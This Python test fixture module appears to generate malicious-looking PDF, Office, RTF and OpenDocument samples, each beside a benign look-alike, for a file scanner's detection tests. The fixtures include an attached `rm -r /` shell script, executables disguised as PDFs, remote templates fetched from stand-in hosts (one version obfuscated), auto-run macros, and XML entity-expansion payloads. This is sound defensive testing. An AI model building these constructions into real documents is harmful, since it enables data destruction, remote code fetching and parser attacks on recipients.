"""What a file carries inside and starts or fetches by itself, each beside an honest file that looks like it."""

from collections.abc import Iterator

import pikepdf
from pikepdf import Array, AttachedFileSpec, Dictionary, Name

from tests.evidence.shelf import office, paper
from tests.evidence.shelf.case import Case, bad
from tests.evidence.shelf.swelling import LAUGHS, OUTSIDE

_WINDOWS = b"MZ" + bytes(58) + (128).to_bytes(4, "little") + bytes(64) + b"PE\0\0" + bytes(300)
_FAR = ("https://contoh.example/surat.dotm", "\\\\203.0.113.7\\bagi\\surat.dotx", "file://203.0.113.7/bagi/surat.dotx")


def cases() -> Iterator[Case]:
    yield from _forms()
    yield from _programs_inside()
    yield from _templates()
    yield from _events()
    yield from _entities()


# --- forms that only Adobe Reader draws ----------------------------------------------------------------------------


def _forms() -> Iterator[Case]:
    made = {
        "one stream": lambda pdf: _xdp(pdf),
        "a list of parts": lambda pdf: Array(["preamble", _xdp(pdf), "template", _xdp(pdf), "postamble", _xdp(pdf)]),
        "a list behind a reference": lambda pdf: pdf.make_indirect(Array(["template", _xdp(pdf)])),
    }
    for seed, (how, make) in enumerate(made.items()):
        for fields in ("none", "signature"):
            yield bad(
                f"form in XFA alone, {how}",
                f"isian-{seed}.pdf",
                lambda make=make, fields=fields, seed=seed: _form(seed, make, fields),
                "dynamic_form",
                kind="laporan",
            )
        yield Case(
            f"form in XFA and in fields that all readers show, {how}",
            f"isian-{seed}.pdf",
            lambda make=make, seed=seed: _form(seed, make, "text"),
            kind="laporan",
        )
    yield Case("form with an empty XFA", "isian.pdf", lambda: _form(1, lambda pdf: Array([]), "none"), kind="laporan")


def _xdp(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>')


def _form(seed: int, make, fields: str) -> bytes:
    kinds = {"none": (), "signature": (Name.Sig,), "text": (Name.Tx, Name.Sig)}

    def change(pdf: pikepdf.Pdf) -> None:
        listed = [pdf.make_indirect(Dictionary(FT=kind, T=f"isian{kind}")) for kind in kinds[fields]]
        form = pdf.make_indirect(Dictionary(Fields=Array(listed)))
        form["/XFA"] = make(pdf)
        pdf.Root["/AcroForm"] = form

    return paper.changed(paper.decree(seed), change)


# --- programs that a PDF carries -------------------------------------------------------------------------------------


def _programs_inside() -> Iterator[Case]:
    carried = (
        ("lampiran.pdf", "lampiran.pdf", _WINDOWS),
        ("lampiran.pdf", "lampiran.pdf", b"\x7fELF\x02\x01\x01" + bytes(200)),
        ("rekap", "rekap", b"#!/bin/sh\nrm -r /\n"),
        ("lampiran.pdf.exe", "lampiran.pdf.exe", b"isi"),
        ("lampiran.pdf", "buka.scr", b"isi"),
        ("faktur.exe .", "faktur.exe .", b"isi"),
    )
    for seed, (name, other, content) in enumerate(carried):
        for look in ({}, {"stream_decode_level": pikepdf.StreamDecodeLevel.generalized, "compress_streams": False}):
            yield bad(
                "program attached under the name of a paper",
                f"surat-{seed}.pdf",
                lambda name=name, other=other, content=content, seed=seed, look=look: paper.changed(
                    paper.decree(seed), lambda pdf: _attach(pdf, name, other, content), **look
                ),
                "program_inside",
                kind="laporan",
            )
        yield bad(
            "paper attached",
            f"surat-{seed}.pdf",
            lambda seed=seed: paper.changed(
                paper.decree(seed),
                lambda pdf: _attach(pdf, "MZ lampiran.pdf", "MZ lampiran.pdf", paper.decree(seed + 50)),
            ),
            "pdf_attachment",
            kind="laporan",
        )


def _attach(pdf: pikepdf.Pdf, name: str, other: str, content: bytes) -> None:
    pdf.attachments[name] = AttachedFileSpec(pdf, content, filename=name)
    pdf.attachments[name].obj["/F"] = other


# --- templates from elsewhere ------------------------------------------------------------------------------------


def _templates() -> Iterator[Case]:
    for seed, target in enumerate(_FAR):
        relation = office.relations(("attachedTemplate", target, True))
        yield bad(
            "template from elsewhere",
            f"undangan-{seed}.docx",
            lambda relation=relation, seed=seed: office.document(
                seed, parts={"word/_rels/settings.xml.rels": relation}
            ),
            "outside_template",
        )
        for hidden in (_plainly, _by_numbers):
            yield bad(
                "template from elsewhere in RTF",
                f"undangan-{seed}.rtf",
                lambda target=target, seed=seed, hidden=hidden: _rtf(seed, hidden(target)),
                "outside_template",
            )
    for seed, target in enumerate(("C:\\Users\\Staf\\Templates\\Surat.dotx", "Normal.dotm", "file:///C:/Surat.dotx")):
        yield Case(
            "template of the own machine in RTF", f"surat-{seed}.rtf", lambda t=target, s=seed: _rtf(s, _plainly(t))
        )
    yield Case(
        "RTF with a link", "tautan.rtf", lambda: _rtf(1, "", more="{\\field{\\*\\fldinst HYPERLINK http://a.id}}")
    )


def _plainly(target: str) -> str:
    return target.replace("\\", "\\\\")


def _by_numbers(target: str) -> str:
    """The same in signs by their number, broken over lines."""
    return "\r\n".join(f"\\'{ord(sign):02x}" if at % 2 else f"\\u{ord(sign)}?" for at, sign in enumerate(target))


def _rtf(seed: int, template: str, *, more: str = "") -> bytes:
    words = "\\par ".join(paper.lines(seed))
    group = f"{{\\*\\template {template}}}" if template else ""
    return f"{{\\rtf1\\ansi\\deff0{{\\fonttbl{{\\f0 Arial;}}}}{group}{more}{words}\\par}}".encode("latin-1")


# --- macros that an event starts ---------------------------------------------------------------------------------


def _events() -> Iterator[Case]:
    macro = {"Basic/Standard/Module1.xml": "<m/>"}
    for seed, event in enumerate(("dom:load", "office:load-finished", "office:print", "on-load")):
        listeners = (
            f"<office:scripts><office:event-listeners>{_listener(event)}</office:event-listeners></office:scripts>"
        )
        for kind, name in (("text", "surat.odt"), ("spreadsheet", "rekap.ods")):
            yield bad(
                "macro that an event starts",
                f"{seed}-{name}",
                lambda kind=kind, seed=seed, listeners=listeners: office.open_document(
                    kind, seed, scripts=listeners, parts=macro
                ),
                "macro_runs_itself",
            )
    form = f"<form:form><office:event-listeners>{_listener('dom:load')}</office:event-listeners></form:form>"
    button = f"<form:button><office:event-listeners>{_listener('dom:click')}</office:event-listeners></form:button>"
    for body, code in ((form, "macro_runs_itself"), (button, "macro")):
        yield bad(
            "macro of a form",
            f"isian-{code}.odt",
            lambda body=body: office.open_document(body=body, parts=macro),
            code,
        )
    yield bad(
        "macro of the reader's own machine that an event starts",
        "surat.odt",
        lambda: office.open_document(scripts=f"<office:scripts>{_listener('dom:load')}</office:scripts>"),
        "macro_runs_itself",
    )
    empty = "<office:scripts><office:event-listeners/></office:scripts>"
    yield Case("OpenDocument with an empty list of events", "surat.odt", lambda: office.open_document(scripts=empty))


def _listener(event: str) -> str:
    place = "vnd.sun.star.script:Standard.Module1.Mulai?language=Basic&amp;location=document"
    return f'<script:event-listener script:language="ooo:script" script:event-name="{event}" xlink:href="{place}"/>'


# --- entities out of their place -----------------------------------------------------------------------------------


def _entities() -> Iterator[Case]:
    for number, words in enumerate((LAUGHS, OUTSIDE)):
        head, _, _ = words.partition("<worksheet>")
        declared = head.partition("?>")[2]
        parts = {
            "behind the content": f"<worksheet><sheetData/></worksheet>?>{declared}",
            "before the declaration": f"\n<?xml version='1.0'?>{declared}<worksheet/>",
            "inside the content": f"<worksheet>{declared}<sheetData/></worksheet>",
        }
        for place, content in parts.items():
            for part in ("xl/workbook.xml", "xl/worksheets/sheet1.xml"):
                yield bad(
                    f"entities {place}",
                    f"rekap-{number}.xlsx",
                    lambda part=part, content=content: office.with_parts(office.worksheet(), {part: content}),
                    "xml_entities",
                    kind="data",
                )
    quoted = '<a><![CDATA[<!ENTITY x "y">]]><!-- <!ENTITY z "y"> --></a>'
    yield Case(
        "worksheet that quotes a declaration",
        "rekap.xlsx",
        lambda: office.with_parts(office.worksheet(), {"customXml/item1.xml": quoted}),
        kind="data",
    )
